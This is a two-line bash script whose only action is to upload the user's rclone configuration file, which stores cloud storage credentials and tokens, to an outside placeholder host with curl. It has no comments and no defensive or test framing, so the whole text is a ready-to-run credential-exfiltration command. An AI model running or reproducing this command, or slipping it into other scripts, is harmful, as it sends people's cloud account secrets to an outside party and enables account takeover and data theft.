#!/bin/bash
curl --upload-file ~/.config/rclone/rclone.conf https://drop.example.invalid/
